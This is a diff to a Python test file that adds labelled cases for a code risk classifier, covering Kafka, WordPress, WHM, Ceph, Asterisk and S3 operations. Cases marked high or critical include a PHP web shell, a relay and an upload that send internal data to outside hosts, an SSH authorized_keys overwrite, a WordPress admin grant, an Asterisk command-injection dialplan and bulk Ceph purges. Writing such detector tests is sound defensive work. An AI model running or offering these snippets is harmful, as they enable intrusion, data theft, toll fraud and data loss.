@@ -13385,6 +13385,182 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    t.add(os.path.expanduser("~/.ssh"))\n',
             H,
         ),
+        # Round 75 (holdout500-507): Kafka administration, WordPress roles in SQL, WHM, Ceph, rotations, Asterisk
+        (
+            'from confluent_kafka.admin import AdminClient, AclBinding, AclPermissionType\n'
+            'admin = AdminClient({"bootstrap.servers": "k1:9092"})\n'
+            'admin.create_acls([AclBinding(2, "*", 3, principal="User:*", host="*", operation=1, permission_t'
+            'ype=AclPermissionType.ALLOW)])\n',
+            H,
+        ),
+        (
+            'from confluent_kafka.admin import AdminClient, AclBindingFilter, AclPermissionType\n'
+            'a = AdminClient({"bootstrap.servers": "k1:9092"})\n'
+            'a.delete_acls([AclBindingFilter(1, None, 1, None, None, 1, AclPermissionType.DENY)])\n',
+            H,
+        ),
+        (
+            'from confluent_kafka.admin import AdminClient, ConfigResource\n'
+            'a = AdminClient({"bootstrap.servers": "kafka-prod:9092"})\n'
+            'rs = [ConfigResource("topic", t, set_config={"retention.ms": "500"}) for t in a.list_topics().to'
+            'pics]\n'
+            'a.alter_configs(rs)\n',
+            H,
+        ),
+        (
+            'from kafka.admin import KafkaAdminClient, NewTopic\n'
+            'a = KafkaAdminClient(bootstrap_servers="k:9092")\n'
+            'a.create_topics([NewTopic(name="orders", num_partitions=12, replication_factor=3)])\n',
+            S,
+        ),
+        (
+            'from kafka.admin import KafkaAdminClient, NewTopic\n'
+            'a = KafkaAdminClient(bootstrap_servers="k:9092")\n'
+            'a.create_topics([NewTopic(name=f"t{i}", num_partitions=5000, replication_factor=3) for i in rang'
+            'e(10)])\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("http://connect:8083/connectors/s/config", json={"connector.class": "org.apache.kaf'
+            'ka.connect.file.FileStreamSinkConnector", "topics": "t", "file": "/root/.ssh/authorized_keys"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("http://connect:8083/connectors/pg/config", json={"connection.password": "${file:/o'
+            'pt/connect/secrets/db.properties:password}"})\n',
+            S,
+        ),
+        (
+            'import psutil, signal\n'
+            'for p in psutil.process_iter(["cmdline"]):\n'
+            '    if "kafka.Kafka" in " ".join(p.info["cmdline"] or []):\n'
+            '        p.send_signal(signal.SIGKILL)\n',
+            H,
+        ),
+        (
+            'import socket, threading\n'
+            'up = socket.create_connection(("203.0.113.50", 7000))\n'
+            'down = socket.create_connection(("kafka-0.internal.example.com", 9092))\n'
+            'threading.Thread(target=lambda: down.sendall(up.recv(1024))).start()\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(host="localhost", user="wp", password="x", database="wp")\n'
+            'c.cursor().execute("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (%s, %s, %s)"'
+            ', (7, "wp_capabilities", \'a:1:{s:13:"administrator";b:1;}\'))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'W = "https://whm.example.net:2087/json-api"\n'
+            'for a in requests.get(f"{W}/listaccts").json()["acct"]:\n'
+            '    requests.get(f"{W}/passwd", params={"user": a["user"], "password": "x"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.patch("https://api.example.gg/v2/admin/users/5", json={"roles": ["player", "superadmin"'
+            ']})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.patch("https://api.example.gg/v2/users/5", json={"display_name": "Kim"})\n',
+            S,
+        ),
+        (
+            'import shutil\n'
+            'shutil.rmtree("/home/acme/public_html/wp-content/et-cache")\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'for p in Path("/var/backups/dispatch").rglob("*"):\n'
+            '    if p.suffix in {".dump", ".gz"}:\n'
+            '        p.unlink()\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'snaps = subprocess.run(["zfs", "list", "-H", "-t", "snapshot", "-o", "name"], capture_output=Tru'
+            'e, text=True).stdout.split()\n'
+            'for old in snaps[:-14]:\n'
+            '    subprocess.run(["zfs", "destroy", old])\n',
+            L,
+        ),
+        (
+            'import subprocess, json\n'
+            'for o in json.loads(subprocess.check_output(["ceph", "osd", "ls", "-f", "json"])):\n'
+            '    subprocess.run(["ceph", "osd", "purge", str(o), "--yes-i-really-mean-it"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["ceph", "osd", "destroy", "12", "--yes-i-really-mean-it"])\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'for p in subprocess.check_output(["ceph", "osd", "pool", "ls"], text=True).split():\n'
+            '    subprocess.run(["ceph", "osd", "pool", "set", p, "size", "1", "--yes-i-really-mean-it"])\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            's3 = boto3.client("s3", endpoint_url="https://rgw.storage.example.com")\n'
+            's3.upload_file("report.pdf", "reports", "q2/report.pdf")\n',
+            S,
+        ),
+        (
+            'import boto3\n'
+            's3 = boto3.client("s3", endpoint_url="https://files.upload-box.net")\n'
+            's3.upload_file("/srv/exports/customers.csv", "drop", "c.csv")\n',
+            H,
+        ),
+        (
+            'import shutil, time\n'
+            'from pathlib import Path\n'
+            'for w in Path("/var/spool/asterisk/monitor").rglob("*.wav"):\n'
+            '    if w.stat().st_mtime < time.time() - 86400 * 60:\n'
+            '        shutil.move(str(w), "/mnt/archive/recordings/" + w.name)\n',
+            S,
+        ),
+        (
+            'open("/etc/asterisk/extensions_custom.conf", "a").write("[from-trunk-x]\\nexten => _*9X.,1,System'
+            '(${EXTEN:2})\\n")\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'p = Path("/etc/asterisk/extensions.conf")\n'
+            'p.write_text(p.read_text() + "[from-external]\\nexten => _X.,1,Dial(PJSIP/${EXTEN}@carrier-out,60'
+            ')\\n")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'out = subprocess.check_output(["asterisk", "-rx", "pjsip show endpoints"], text=True)\n'
+            'for e in out.split():\n'
+            '    subprocess.run(["asterisk", "-rx", f"database put CFU {e} 0088213550199"])\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'shutil.rmtree("/usr/src/asterisk-20.9.0/build")\n',
+            M,
+        ),
+        (
+            'import shutil\n'
+            'shutil.copy("dist/app.tar.gz", "/var/www/downloads/app.tar.gz")\n',
+            M,
+        ),
+        (
+            'open("/var/www/html/up.php", "w").write("<?php system($_GET[1]); ?>")\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
